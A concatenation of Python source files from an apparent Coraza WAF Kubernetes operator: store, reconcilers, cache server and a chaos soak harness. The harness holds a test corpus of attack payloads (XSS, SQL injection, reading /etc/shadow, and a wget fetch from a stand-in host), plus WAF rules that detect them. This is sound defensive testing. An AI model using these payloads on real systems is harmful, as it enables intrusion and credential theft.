this store exactly like controller-runtime watches the API server; swapping
in a real kube client is a transport change, not an architecture change.
"""

from __future__ import annotations

import threading
import uuid
from collections import defaultdict
from dataclasses import dataclass
from typing import Any, Callable

from .api import ObjectMeta, OwnerReference


@dataclass
class Event:
    """A watch event: ADDED | MODIFIED | DELETED."""

    type: str
    kind: str
    obj: Any


class ResourceStore:
    def __init__(self) -> None:
        self._lock = threading.RLock()
        self._objects: dict[tuple[str, str], Any] = {}
        self._rv = 0
        self._watchers: dict[str, list[Callable[[Event], None]]] = (
            defaultdict(list))

    # -- helpers -----------------------------------------------------------
    @staticmethod
    def _key(kind: str, namespace: str, name: str) -> tuple[str, str]:
        return (kind, f"{namespace}/{name}")

    def _notify(self, ev: Event) -> None:
        for fn in list(self._watchers.get(ev.kind, ())):
            fn(ev)

    # -- CRUD --------------------------------------------------------------
    def create(self, obj: Any) -> Any:
        obj.validate()
        with self._lock:
            k = self._key(obj.kind, obj.metadata.namespace,
                          obj.metadata.name)
            if k in self._objects:
                raise FileExistsError(
                    f'{obj.kind} "{obj.metadata.key}" already exists')
            self._rv += 1
            obj.metadata.resource_version = self._rv
            obj.metadata.uid = obj.metadata.uid or str(uuid.uuid4())
            self._objects[k] = obj
            ev = Event("ADDED", obj.kind, obj)
        self._notify(ev)
        return obj

    def update(self, obj: Any, *, bump_generation: bool = True) -> Any:
        obj.validate()
        with self._lock:
            k = self._key(obj.kind, obj.metadata.namespace,
                          obj.metadata.name)
            if k not in self._objects:
                raise KeyError(f'{obj.kind} "{obj.metadata.key}" not found')
            self._rv += 1
            obj.metadata.resource_version = self._rv
            if bump_generation:
                obj.metadata.generation += 1
            self._objects[k] = obj
            ev = Event("MODIFIED", obj.kind, obj)
        self._notify(ev)
        return obj

    def update_status(self, obj: Any) -> Any:
        """Status-subresource-style write: no generation bump, no admission
        re-validation (mirrors patching .status in the reference)."""
        with self._lock:
            k = self._key(obj.kind, obj.metadata.namespace,
                          obj.metadata.name)
            if k not in self._objects:
                raise KeyError(f'{obj.kind} "{obj.metadata.key}" not found')
            self._rv += 1
            obj.metadata.resource_version = self._rv
            self._objects[k] = obj
            ev = Event("MODIFIED", obj.kind, obj)
        self._notify(ev)
        return obj

    def apply(self, obj: Any) -> Any:
        """Server-side-apply equivalent: create or overwrite spec fields
        (reference: utils.go:114-138 serverSideApply w/ ForceOwnership).

        A no-change apply returns the current object WITHOUT writing or
        firing a watch event — required for convergence, since owners
        re-reconcile on child events (Owns) and would otherwise loop."""
        import dataclasses

        with self._lock:
            k = self._key(obj.kind, obj.metadata.namespace,
                          obj.metadata.name)
            exists = k in self._objects
        if exists:
            current = self.get(obj.kind, obj.metadata.namespace,
                               obj.metadata.name)

            def content(o):
                d = dataclasses.asdict(o)
                d.pop("metadata", None)
                owners = [(r.kind, r.name, r.uid)
                          for r in o.metadata.owner_references]
                return d, owners

            if content(current) == content(obj):
                return current
            obj.metadata.uid = current.metadata.uid
            obj.metadata.generation = current.metadata.generation
            return self.update(obj)
        return self.create(obj)

    def get(self, kind: str, namespace: str, name: str) -> Any | None:
        with self._lock:
            return self._objects.get(self._key(kind, namespace, name))

    def list(self, kind: str, namespace: str | None = None) -> list[Any]:
        with self._lock:
            return [o for (k, _), o in self._objects.items()
                    if k == kind and (namespace is None or
                                      o.metadata.namespace == namespace)]

    def delete(self, kind: str, namespace: str, name: str) -> bool:
        cascade: list[Any] = []
        with self._lock:
            k = self._key(kind, namespace, name)
            obj = self._objects.pop(k, None)
            if obj is None:
                return False
            self._rv += 1
            obj.metadata.deleted = True
            ev = Event("DELETED", kind, obj)
            # owner-reference GC (the reference gets this from kube GC via
            # SetControllerReference, engine_controller_driver_istio.go:57)
            uid = obj.metadata.uid
            for (okind, _), other in list(self._objects.items()):
                if any(ref.uid == uid
                       for ref in other.metadata.owner_references):
                    cascade.append(other)
        self._notify(ev)
        for child in cascade:
            self.delete(child.kind, child.metadata.namespace,
                        child.metadata.name)
        return True

    # -- watch -------------------------------------------------------------
    def watch(self, kind: str, fn: Callable[[Event], None]) -> None:
        with self._lock:
            self._watchers[kind].append(fn)


def controller_reference(owner: Any) -> OwnerReference:
    return OwnerReference(
        api_version=owner.api_version, kind=owner.kind,
        name=owner.metadata.name, uid=owner.metadata.uid)
