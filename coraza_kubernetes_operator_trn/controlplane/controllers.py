"""Reconcilers: RuleSet compile-and-cache, Engine provisioning.

Level-triggered reconcile loops over the ResourceStore with work queues,
exponential failure backoff (1s -> 60s, reference:
ruleset_controller.go:73-78), generation-change predicates, and the
ConfigMap -> RuleSet watch mapping (reference:
ruleset_controller_watch_predicates.go:36-64).

The key behavioral upgrade over the reference: the RuleSet controller's
"validate with Coraza" step (reference: ruleset_controller.go:158-171,
parse-only) becomes *compile to device artifact* — the cache entry carries
the serialized transition tables the trn data plane loads directly.
"""

from __future__ import annotations

import logging
import queue
import threading
import time
from dataclasses import dataclass, field

from .api import (
    Condition,
    ConfigMap,
    Engine,
    FailurePolicy,
    InspectionBinding,
    ObjectMeta,
    RuleSet,
    set_condition,
)
from .cache import RuleSetCache
from .store import Event, ResourceStore, controller_reference

log = logging.getLogger("controllers")

VALIDATION_ANNOTATION = "coraza.io/validation"  # "false" => skip compile
BINDING_NAME_PREFIX = "coraza-engine-"  # reference: WasmPluginNamePrefix


# ---------------------------------------------------------------------------
# Events (reference reasons, asserted by tests there: events.go:48-70)


@dataclass
class RecordedEvent:
    type: str  # Normal | Warning
    reason: str
    message: str
    obj_kind: str
    obj_key: str


class EventRecorder:
    """Bounded in-memory recorder (the reference delegates to the k8s
    events API, which is bounded server-side)."""

    MAX_EVENTS = 4096

    def __init__(self) -> None:
        from collections import deque

        self.events: "deque[RecordedEvent]" = deque(maxlen=self.MAX_EVENTS)
        self._lock = threading.Lock()

    def event(self, obj, type_: str, reason: str, message: str) -> None:
        with self._lock:
            self.events.append(RecordedEvent(
                type_, reason, message, obj.kind, obj.metadata.key))

    def has_event(self, type_: str, reason: str) -> bool:
        with self._lock:
            return any(e.type == type_ and e.reason == reason
                       for e in self.events)


# ---------------------------------------------------------------------------
# Reconcile plumbing


@dataclass
class Result:
    requeue: bool = False
    requeue_after: float = 0.0


class _RateLimiter:
    """Per-key exponential failure backoff, 1s base -> 60s cap
    (reference: workqueue.NewTypedItemExponentialFailureRateLimiter)."""

    def __init__(self, base: float = 1.0, cap: float = 60.0) -> None:
        self.base, self.cap = base, cap
        self.failures: dict[str, int] = {}

    def when(self, key: str) -> float:
        n = self.failures.get(key, 0)
        self.failures[key] = n + 1
        return min(self.base * (2 ** n), self.cap)

    def forget(self, key: str) -> None:
        self.failures.pop(key, None)


class Reconciler:
    """Base: queue + worker loop + backoff. Subclasses implement
    reconcile(namespace, name) -> Result."""

    kind = ""

    def __init__(self, store: ResourceStore, recorder: EventRecorder):
        self.store = store
        self.recorder = recorder
        self._queue: "queue.Queue[tuple[str, str]]" = queue.Queue()
        self._limiter = _RateLimiter()
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self._timers: list[threading.Timer] = []
        self._seen_generation: dict[str, int] = {}

    # -- enqueue sources ---------------------------------------------------
    def enqueue(self, namespace: str, name: str) -> None:
        self._queue.put((namespace, name))

    def _on_event(self, ev: Event) -> None:
        meta: ObjectMeta = ev.obj.metadata
        if ev.type == "MODIFIED":
            # generation-change predicate: status-only writes don't trigger
            # (reference: predicate.GenerationChangedPredicate)
            last = self._seen_generation.get(meta.key)
            if last == meta.generation:
                return
        self._seen_generation[meta.key] = meta.generation
        self.enqueue(meta.namespace, meta.name)

    # -- lifecycle ---------------------------------------------------------
    def start(self) -> None:
        self.store.watch(self.kind, self._on_event)
        self._thread = threading.Thread(
            target=self._run, name=f"{self.kind}-reconciler", daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        self._queue.put(("", ""))  # wake worker
        for t in self._timers:
            t.cancel()
        if self._thread:
            self._thread.join(timeout=5)

    def _run(self) -> None:
        while not self._stop.is_set():
            ns, name = self._queue.get()
            if self._stop.is_set():
                return
            key = f"{ns}/{name}"
            try:
                result = self.reconcile(ns, name)
            except Exception as exc:  # degraded path: backoff requeue
                log.warning("%s %s reconcile error: %s", self.kind, key, exc)
                result = Result(requeue=True)
            if result.requeue or result.requeue_after:
                delay = result.requeue_after or self._limiter.when(key)
                t = threading.Timer(delay, self.enqueue, (ns, name))
                t.daemon = True
                self._timers = [x for x in self._timers if x.is_alive()]
                self._timers.append(t)
                t.start()
            else:
                self._limiter.forget(key)

    def reconcile(self, namespace: str, name: str) -> Result:
        raise NotImplementedError

    def wait_idle(self, timeout: float = 5.0) -> bool:
        """Test helper: wait for the queue to drain."""
        deadline = time.time() + timeout
        while time.time() < deadline:
            if self._queue.empty():
                return True
            time.sleep(0.01)
        return False

    # -- condition helpers (reference: utils.go:63-107) --------------------
    def _set_progressing(self, obj, message: str) -> None:
        gen = obj.metadata.generation
        set_condition(obj.status.conditions, Condition(
            "Progressing", "True", "Reconciling", message, gen))
        set_condition(obj.status.conditions, Condition(
            "Ready", "False", "Reconciling", message, gen))
        self.store.update_status(obj)

    def _set_ready(self, obj, reason: str, message: str) -> None:
        gen = obj.metadata.generation
        set_condition(obj.status.conditions, Condition(
            "Ready", "True", reason, message, gen))
        set_condition(obj.status.conditions, Condition(
            "Progressing", "False", reason, message, gen))
        set_condition(obj.status.conditions, Condition(
            "Degraded", "False", reason, message, gen))
        self.store.update_status(obj)

    def _set_degraded(self, obj, reason: str, message: str) -> None:
        gen = obj.metadata.generation
        set_condition(obj.status.conditions, Condition(
            "Degraded", "True", reason, message, gen))
        set_condition(obj.status.conditions, Condition(
            "Ready", "False", reason, message, gen))
        set_condition(obj.status.conditions, Condition(
            "Progressing", "False", reason, message, gen))
        self.store.update_status(obj)


# ---------------------------------------------------------------------------
# RuleSet controller (reference: ruleset_controller.go:84-194)


class RuleSetReconciler(Reconciler):
    kind = "RuleSet"

    def __init__(self, store: ResourceStore, recorder: EventRecorder,
                 cache: RuleSetCache, compile_artifacts: bool = True):
        super().__init__(store, recorder)
        self.cache = cache
        self.compile_artifacts = compile_artifacts

    def start(self) -> None:
        super().start()
        # ConfigMap -> RuleSet mapping watch (reference:
        # ruleset_controller_watch_predicates.go:36-64)
        self.store.watch("ConfigMap", self._on_configmap)

    def _on_configmap(self, ev: Event) -> None:
        cm: ConfigMap = ev.obj
        for rs in self.store.list("RuleSet", cm.metadata.namespace):
            if any(ref.name == cm.metadata.name for ref in rs.spec.rules):
                self.enqueue(rs.metadata.namespace, rs.metadata.name)

    def reconcile(self, namespace: str, name: str) -> Result:
        rs: RuleSet | None = self.store.get("RuleSet", namespace, name)
        if rs is None:
            self.cache.delete(f"{namespace}/{name}")
            return Result()
        self._set_progressing(rs, "Processing rule sources")

        parts: list[str] = []
        for ref in rs.spec.rules:
            cm: ConfigMap | None = self.store.get(
                "ConfigMap", namespace, ref.name)
            if cm is None:
                msg = (f"ConfigMap {namespace}/{ref.name} not found; "
                       "will retry")
                self.recorder.event(rs, "Warning", "ConfigMapNotFound", msg)
                self._set_degraded(rs, "ConfigMapNotFound", msg)
                return Result(requeue=True)
            data = cm.data.get("rules")
            if data is None:
                msg = (f'ConfigMap {namespace}/{ref.name} has no "rules" '
                       "key")
                self.recorder.event(rs, "Warning", "InvalidConfigMap", msg)
                self._set_degraded(rs, "InvalidConfigMap", msg)
                return Result(requeue=True)
            parts.append(data)

        aggregated = "\n".join(parts)
        artifact = b""
        validate = rs.metadata.annotations.get(
            VALIDATION_ANNOTATION, "true") != "false"
        if validate:
            # the reference parses with Coraza as a validity gate
            # (ruleset_controller.go:158-171); here validation IS
            # compilation — invalid SecLang fails the build, valid SecLang
            # yields the device artifact in one pass — followed by the
            # waf-lint analyzer: ERROR diagnostics (shadowed rules,
            # budget-blowing tables) hard-reject the RuleSet, WARNINGs
            # surface as a RuleSetLint event but still admit
            try:
                if self.compile_artifacts:
                    from ..compiler.artifact import serialize
                    from ..compiler.compile import compile_ruleset
                    cs = compile_ruleset(aggregated)
                    artifact = serialize(cs)
                else:
                    from ..seclang.parser import parse_seclang
                    parse_seclang(aggregated)
                    cs = None
            except Exception as exc:
                msg = f"invalid rules: {exc}"
                self.recorder.event(rs, "Warning", "InvalidConfigMap", msg)
                self._set_degraded(rs, "InvalidConfigMap", msg)
                return Result(requeue=True)
            if cs is not None:
                from ..analysis import analyze_compiled
                report = analyze_compiled(cs)
                if not report.ok:
                    msg = "ruleset rejected by waf-lint: " + "; ".join(
                        d.render().replace("\n", " ")
                        for d in report.errors)
                    self.recorder.event(rs, "Warning", "RuleSetRejected",
                                        msg)
                    self._set_degraded(rs, "RuleSetRejected", msg)
                    return Result(requeue=True)
                if report.warnings:
                    self.recorder.event(
                        rs, "Warning", "RuleSetLint",
                        "waf-lint: " + "; ".join(
                            d.render().replace("\n", " ")
                            for d in report.warnings))

        entry = self.cache.put(f"{namespace}/{name}", aggregated, artifact)
        self.recorder.event(
            rs, "Normal", "RulesCached",
            f"rules compiled and cached (version {entry.uuid})")
        self._set_ready(rs, "RulesCached", "Rules compiled and cached")
        return Result()


# ---------------------------------------------------------------------------
# Engine controller (reference: engine_controller.go:90-157,
# engine_controller_driver_istio.go)


class EngineReconciler(Reconciler):
    kind = "Engine"

    def __init__(self, store: ResourceStore, recorder: EventRecorder,
                 envoy_cluster_name: str = ""):
        super().__init__(store, recorder)
        self.envoy_cluster_name = envoy_cluster_name

    def start(self) -> None:
        super().start()
        # Owns(InspectionBinding): child events re-enqueue the owner Engine
        # so deleted/mutated bindings self-heal (reference:
        # engine_controller.go:74 Owns(wasmPlugin))
        self.store.watch("InspectionBinding", self._on_binding)

    def _on_binding(self, ev: Event) -> None:
        for ref in ev.obj.metadata.owner_references:
            if ref.kind == "Engine":
                self.enqueue(ev.obj.metadata.namespace, ref.name)

    def reconcile(self, namespace: str, name: str) -> Result:
        eng: Engine | None = self.store.get("Engine", namespace, name)
        if eng is None:
            return Result()
        self._set_progressing(eng, "Provisioning engine")

        driver = eng.spec.driver
        if driver.istio is not None and driver.istio.wasm is not None:
            binding = self._build_istio_wasm_binding(eng)
        elif driver.trainium is not None:
            binding = self._build_trainium_binding(eng)
        else:
            msg = "no supported driver configured"
            self.recorder.event(
                eng, "Warning", "InvalidConfiguration", msg)
            self._set_degraded(eng, "InvalidConfiguration", msg)
            return Result()

        try:
            binding.metadata.owner_references = [controller_reference(eng)]
            self.store.apply(binding)
        except Exception as exc:
            msg = f"failed to apply binding: {exc}"
            self.recorder.event(eng, "Warning", "ProvisioningFailed", msg)
            self._set_degraded(eng, "ProvisioningFailed", msg)
            return Result(requeue=True)

        reason = ("WasmPluginCreated" if binding.driver == "istio-wasm"
                  else "BindingCreated")
        self.recorder.event(
            eng, "Normal", reason,
            f"inspection binding {binding.metadata.key} configured")
        self._set_ready(eng, "Configured", "Engine configured")
        return Result()

    # -- builders ----------------------------------------------------------
    def _plugin_config(self, eng: Engine, cache_cfg) -> dict:
        cfg = {
            # reference: engine_controller_driver_istio.go:96-103
            "cache_server_instance":
                f"{eng.metadata.namespace}/{eng.spec.ruleset.name}",
            "cache_server_cluster": self.envoy_cluster_name,
        }
        if cache_cfg is not None:
            cfg["rule_reload_interval_seconds"] = (
                cache_cfg.poll_interval_seconds)
        return cfg

    def _build_istio_wasm_binding(self, eng: Engine) -> InspectionBinding:
        wasm = eng.spec.driver.istio.wasm
        return InspectionBinding(
            metadata=ObjectMeta(
                name=BINDING_NAME_PREFIX + eng.metadata.name,
                namespace=eng.metadata.namespace),
            driver="istio-wasm",
            url=wasm.image,
            plugin_config=self._plugin_config(
                eng, wasm.ruleset_cache_server),
            selector=dict(wasm.workload_selector or {}),
            # the reference accepts failurePolicy but never propagates it
            # (SURVEY.md §2 row 5) — wired here
            failure_policy=eng.spec.failure_policy,
        )

    def _build_trainium_binding(self, eng: Engine) -> InspectionBinding:
        trn = eng.spec.driver.trainium
        cfg = self._plugin_config(eng, trn.ruleset_cache_server)
        cfg.update({
            "cores": trn.cores,
            "max_batch_delay_us": trn.max_batch_delay_us,
            "max_batch_size": trn.max_batch_size,
        })
        return InspectionBinding(
            metadata=ObjectMeta(
                name=BINDING_NAME_PREFIX + eng.metadata.name,
                namespace=eng.metadata.namespace),
            driver="trainium",
            plugin_config=cfg,
            selector=dict(trn.workload_selector or {}),
            failure_policy=eng.spec.failure_policy,
        )
