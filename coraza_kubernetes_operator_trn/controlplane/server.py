"""HTTP artifact server — the control-plane → data-plane channel.

Protocol-compatible with the reference's cache server (reference:
internal/rulesets/cache/server.go:143-198):

    GET /rules/{ns}/{name}          -> {"uuid", "timestamp", "rules"}
    GET /rules/{ns}/{name}/latest   -> {"uuid", "timestamp"}   (cheap poll)

plus the trn extension:

    GET /rules/{ns}/{name}/artifact -> compiled device tables (binary,
                                       ETag = entry UUID)

Background GC thread prunes by age then size (reference: server.go:228-256,
defaults 5m interval / 24h max age / 100MB cap), never evicting latest.
Hardening mirrors server.go:35-53: GET-only, small header cap, socket
timeouts, graceful shutdown.
"""

from __future__ import annotations

import json
import logging
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler

from ..utils.http import make_threading_server

from .cache import RuleSetCache

DEFAULT_PORT = 18080  # reference: internal/controller/manager.go:42

log = logging.getLogger("cache-server")


@dataclass
class GarbageCollectionConfig:
    interval_seconds: float = 300.0
    max_entry_age_seconds: float = 24 * 3600.0
    max_total_bytes: int = 100 * 1024 * 1024


DEFAULT_GC = GarbageCollectionConfig()


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "coraza-trn-cache"
    # header hardening comes from the stdlib parser itself (100-header /
    # 64KB-line caps in http.client); the 5s socket timeout mirrors the
    # reference's ReadHeaderTimeout (reference: server.go:35-53)
    timeout = 5

    cache: RuleSetCache  # set by server factory

    def log_message(self, fmt, *args):  # route to logging, not stderr
        log.debug("%s %s", self.address_string(), fmt % args)

    def _json(self, code: int, payload: dict) -> None:
        # operator API response envelope (status conditions/manifests),
        # never request-body bytes:
        body = json.dumps(payload).encode()  # lint-allow: RED001 -- API envelope, not body bytes
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _error(self, code: int, msg: str) -> None:
        self._json(code, {"error": msg})

    def do_GET(self) -> None:  # noqa: N802 (http.server API)
        parts = [p for p in self.path.split("?")[0].split("/") if p]
        if parts == ["healthz"]:
            self._json(200, {"status": "ok"})
            return
        # /rules/{ns}/{name}[/latest|/artifact]
        if not parts or parts[0] != "rules":
            self._error(404, "not found")
            return
        if len(parts) == 3:
            sub = ""
        elif len(parts) == 4 and parts[3] in ("latest", "artifact"):
            sub = parts[3]
        else:
            self._error(400, "bad request: expected "
                        "/rules/{namespace}/{name}[/latest|/artifact]")
            return
        key = f"{parts[1]}/{parts[2]}"
        entry = self.cache.get(key)
        if entry is None:
            self._error(404, f"no rules for instance {key}")
            return
        if sub == "latest":
            self._json(200, {"uuid": entry.uuid,
                             "timestamp": entry.timestamp})
        elif sub == "artifact":
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Length", str(len(entry.artifact)))
            self.send_header("ETag", f'"{entry.uuid}"')
            self.end_headers()
            self.wfile.write(entry.artifact)
        else:
            self._json(200, {"uuid": entry.uuid,
                             "timestamp": entry.timestamp,
                             "rules": entry.rules})

    def do_POST(self) -> None:  # noqa: N802
        self._error(405, "method not allowed")

    do_PUT = do_DELETE = do_PATCH = do_POST  # GET-only surface


class CacheServer:
    """Runs on every replica (reference: NeedLeaderElection()=false,
    server.go:135-137) — artifact serving must not gap during failover."""

    def __init__(self, cache: RuleSetCache, addr: str = "127.0.0.1",
                 port: int = 0,
                 gc: GarbageCollectionConfig | None = None) -> None:
        self.cache = cache
        self.gc = gc or DEFAULT_GC
        handler = type("BoundHandler", (_Handler,), {"cache": cache})
        self._httpd = make_threading_server(addr, port, handler,
                                            backlog=128)
        self._serve_thread: threading.Thread | None = None
        self._gc_stop = threading.Event()
        self._gc_thread: threading.Thread | None = None

    @property
    def port(self) -> int:
        return self._httpd.server_address[1]

    # -- lifecycle ---------------------------------------------------------
    def start(self) -> None:
        self._serve_thread = threading.Thread(
            target=self._httpd.serve_forever, name="cache-server",
            daemon=True)
        self._serve_thread.start()
        self._gc_thread = threading.Thread(
            target=self._run_gc, name="cache-gc", daemon=True)
        self._gc_thread.start()
        log.info("cache server listening on :%d", self.port)

    def stop(self) -> None:
        self._gc_stop.set()
        self._httpd.shutdown()
        self._httpd.server_close()
        if self._serve_thread:
            self._serve_thread.join(timeout=5)
        if self._gc_thread:
            self._gc_thread.join(timeout=5)

    # -- GC (reference: server.go rungc) -----------------------------------
    def _run_gc(self) -> None:
        while not self._gc_stop.wait(self.gc.interval_seconds):
            self.run_gc_once()

    def run_gc_once(self) -> tuple[int, int]:
        by_age = self.cache.prune(self.gc.max_entry_age_seconds)
        by_size = self.cache.prune_by_size(self.gc.max_total_bytes)
        if by_age or by_size:
            log.info("gc: pruned %d by age, %d by size", by_age, by_size)
        return by_age, by_size
