"""HTTP server plumbing shared by the cache server and the sidecar."""

from __future__ import annotations

from http.server import ThreadingHTTPServer


def make_threading_server(addr: str, port: int, handler_cls,
                          backlog: int = 128) -> ThreadingHTTPServer:
    """ThreadingHTTPServer with daemon threads and a deep accept backlog
    (the stdlib default of 5 resets concurrent clients — and concurrent
    clients are the operating mode here: many pollers on the cache server,
    request bursts coalescing into device batches on the sidecar)."""
    server_cls = type("Server", (ThreadingHTTPServer,), {
        "request_queue_size": backlog,
    })
    httpd = server_cls((addr, port), handler_cls)
    httpd.daemon_threads = True
    return httpd
