"""Shared framework utilities."""

from .http import make_threading_server

__all__ = ["make_threading_server"]
