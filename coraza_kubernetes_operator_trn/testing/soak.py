"""Chaos soak harness: production-shaped sustained load under phased
fault schedules, with continuously-checked ledger invariants and a
mid-storm drain/re-import proof.

The contract under test (one sentence, two halves): **no admitted
request is ever silently lost** — not under sustained heavy-tailed
load, not mid fault-storm, not across a pod's graceful drain. Half 1
lives here: ``SyntheticTraffic`` synthesizes benign traffic whose body
lengths follow the heavy-tailed mixes the profiler's bucket histograms
observe in production, blended with CRS-shaped attack payloads and
streaming chunk splits; a ``ChaosSchedule`` ramps ``FaultInjector``
rates through calm -> storm -> recovery windows while hot reloads and
autotune swaps fire mid-soak; an ``InvariantMonitor`` asserts after
every phase that admitted == resolved, audit events are exactly-once,
no streams or trace contexts leaked, the breaker state machine stayed
legal and every counter stayed monotone; a ``DifferentialReservoir``
replays a seeded sample of admitted requests through ``ReferenceWaf``
for bit-exact verdict parity even mid-storm. Half 2 — the drain state
machine itself — lives in ``extproc/batcher.MicroBatcher.drain``; the
``drain`` phase here is its proof engine: drain mid-soak, hand the
exported stream state to a successor stack, and require the combined
ledger to close exactly with the continued streams bit-identical to an
uninterrupted run.

Everything is seeded (``WAF_SOAK_SEED``) and CPU-runnable: the ≤60s
``--smoke`` profile of ``tools/waf_soak.py`` is a tier-1 gate
(``make soak-smoke``, ``tests/test_soak_smoke.py``).
"""

from __future__ import annotations

import logging
import threading
import time
from dataclasses import dataclass, field, replace as dc_replace

from ..config import env as envcfg
from ..engine.reference import ReferenceWaf
from ..engine.transaction import HttpRequest
from ..extproc.batcher import MicroBatcher
from ..extproc.metrics import Metrics
from ..runtime.resilience import FAULT_KINDS, CircuitBreaker, FaultInjector

log = logging.getLogger("soak")

# CRS-shaped attack corpus: one payload per family, URL- and body-borne
# (the generator embeds them raw and percent-encoded, split across
# stream chunks so carried-DFA scans cross token boundaries)
ATTACKS = (
    "<script>alert(document.cookie)</script>",
    "onerror=alert(1)",
    "javascript:eval('x')",
    "1 UNION SELECT password FROM users--",
    "' OR '1'='1",
    "../../../../etc/passwd",
    "php://input",
    ";cat /etc/shadow",
    "|wget http://evil.example/x.sh",
    "xp_cmdshell",
)

_BENIGN_WORDS = ("widgets", "orders", "newsletter", "profile", "cart",
                 "search", "checkout", "invoice", "catalog", "session")


def build_soak_ruleset(idx: int) -> str:
    """Per-tenant soak ruleset: distinct rule ids per tenant, 403-only
    statuses (so a 503 in the soak is by construction a failure-policy
    verdict, never a rule hit), and bare-REQUEST_BODY rows so streams
    get carried-DFA lanes."""
    rid = 910000 + idx * 100
    return "\n".join([
        "SecRuleEngine On",
        "SecRequestBodyAccess On",
        f'SecRule ARGS|REQUEST_URI "@rx (?i:<script[^>]*>)" '
        f'"id:{rid},phase:2,deny,status:403,t:none,t:urlDecodeUni"',
        f'SecRule ARGS|REQUEST_BODY "@rx (?i:union[\\s+]+select)" '
        f'"id:{rid + 1},phase:2,deny,status:403,t:none,t:urlDecodeUni"',
        f'SecRule REQUEST_BODY "@rx (?i:/etc/(passwd|shadow))" '
        f'"id:{rid + 2},phase:2,deny,status:403,t:none"',
        f'SecRule ARGS|REQUEST_BODY "@pm xp_cmdshell wget sqlmap '
        f'passthru" "id:{rid + 3},phase:2,deny,status:403,'
        f't:none,t:lowercase"',
        f'SecRule REQUEST_URI "@contains php://" '
        f'"id:{rid + 4},phase:2,deny,status:403,t:none,t:lowercase"',
        f'SecRule REQUEST_BODY "@rx (?i:on(error|load|click)\\s*=)" '
        f'"id:{rid + 5},phase:2,deny,status:403,t:none"',
    ])


class SyntheticTraffic:
    """Seeded production-shaped request stream.

    Benign body lengths are heavy-tailed (lognormal), landing across
    the same shape-bucket ladder the profiler's per-bucket occupancy
    histograms report — most requests small, a fat tail of multi-KB
    bodies — with form/json/base64-ish charset mixes. A configurable
    fraction carries an ATTACKS payload (raw or percent-encoded), and a
    fraction arrives as a chunked stream with 2..5 seeded split points
    (splits fall inside attack tokens as often as between them)."""

    def __init__(self, tenants: list[str], seed: int = 7,
                 attack_frac: float = 0.15,
                 stream_frac: float = 0.3,
                 max_body: int = 6144) -> None:
        import random
        self.tenants = list(tenants)
        self.rng = random.Random(f"soak-traffic:{seed}")
        self.attack_frac = attack_frac
        self.stream_frac = stream_frac
        self.max_body = max_body
        self._n = 0

    def _body_len(self) -> int:
        # lognormal: median ~150B, p99 in the multi-KB buckets
        return min(self.max_body, int(self.rng.lognormvariate(5.0, 1.3)))

    def _benign_body(self, n: int) -> bytes:
        rng = self.rng
        kind = rng.random()
        if kind < 0.5:  # form-encoded
            parts = []
            while sum(len(p) for p in parts) < n:
                parts.append("%s=%s" % (rng.choice(_BENIGN_WORDS),
                                        "%x" % rng.getrandbits(64)))
            body = "&".join(parts)
        elif kind < 0.8:  # json-ish
            body = '{"q": "%s", "pad": "%s"}' % (
                rng.choice(_BENIGN_WORDS), "a" * max(0, n - 32))
        else:  # base64-ish blob
            body = "blob=%s" % ("QUJD" * (max(1, n) // 4 + 1))[:n]
        return body[:n].encode()

    def _attack_body(self, n: int) -> bytes:
        import urllib.parse
        rng = self.rng
        payload = rng.choice(ATTACKS)
        if rng.random() < 0.5:
            payload = urllib.parse.quote(payload)
        pad = self._benign_body(max(0, n - len(payload) - 8)).decode(
            "latin-1")
        return ("note=%s&%s" % (payload, pad)).encode("latin-1")

    def _chunks(self, body: bytes) -> list[bytes]:
        rng = self.rng
        if len(body) < 4:
            return [body]
        cuts = sorted(rng.sample(range(1, len(body)),
                                 min(rng.randint(1, 4), len(body) - 1)))
        out, prev = [], 0
        for c in cuts:
            out.append(body[prev:c])
            prev = c
        out.append(body[prev:])
        return out

    def next_item(self) -> dict:
        rng = self.rng
        self._n += 1
        tenant = self.tenants[self._n % len(self.tenants)]
        attack = rng.random() < self.attack_frac
        n = self._body_len()
        uri = "/%s?page=%d" % (rng.choice(_BENIGN_WORDS),
                               rng.randint(1, 40))
        if attack and rng.random() < 0.4:
            import urllib.parse
            uri = "/search?q=" + urllib.parse.quote(rng.choice(ATTACKS))
            body = self._benign_body(n)
        else:
            body = self._attack_body(n) if attack else self._benign_body(n)
        headers = [("Host", "soak.example.com"),
                   ("Content-Type", "application/x-www-form-urlencoded")]
        if rng.random() < self.stream_frac and body:
            req = HttpRequest(method="POST", uri=uri, headers=headers,
                              body=b"")
            return {"kind": "stream", "tenant": tenant, "request": req,
                    "chunks": self._chunks(body), "body": body}
        req = HttpRequest(method="POST" if body else "GET", uri=uri,
                          headers=headers, body=body)
        return {"kind": "buffered", "tenant": tenant, "request": req}


@dataclass
class SoakPhase:
    """One window of the chaos schedule: how many requests to drive,
    which fault rates are in force, and which lifecycle events fire
    mid-phase."""

    name: str
    requests: int
    rates: dict = field(default_factory=dict)
    hot_reload: bool = False
    autotune: bool = False
    drain: bool = False


class ChaosSchedule:
    """Phased fault-rate ramp: applies each phase's rates to the shared
    FaultInjector (every kind not named is reset to 0.0, so phases are
    absolute, not cumulative)."""

    STORM_RATES = {
        "device-exception": 0.08,
        "device-stall": 0.04,
        "device-slow": 0.2,
        "stream-scan-failure": 0.15,
        "compile-failure": 0.5,     # fires on mid-storm hot reloads
        "cache-read-failure": 0.1,
        "cache-write-failure": 0.1,
    }

    def __init__(self, phases: list[SoakPhase]) -> None:
        self.phases = list(phases)

    @classmethod
    def default(cls, n_requests: int) -> "ChaosSchedule":
        calm = max(8, int(n_requests * 0.35))
        storm = max(8, int(n_requests * 0.40))
        drain = max(8, n_requests - calm - storm)
        return cls([
            SoakPhase("calm", calm),
            SoakPhase("storm", storm, rates=dict(cls.STORM_RATES),
                      hot_reload=True, autotune=True),
            SoakPhase("drain", drain, drain=True),
        ])

    def apply(self, fault: "FaultInjector | None",
              phase: SoakPhase) -> None:
        if fault is None:
            return
        for kind in FAULT_KINDS:
            fault.set_rate(kind, float(phase.rates.get(kind, 0.0)))


class InvariantMonitor:
    """Continuously-checked ledger invariants over one or more batcher
    stacks (predecessor + drain successor count as one ledger).

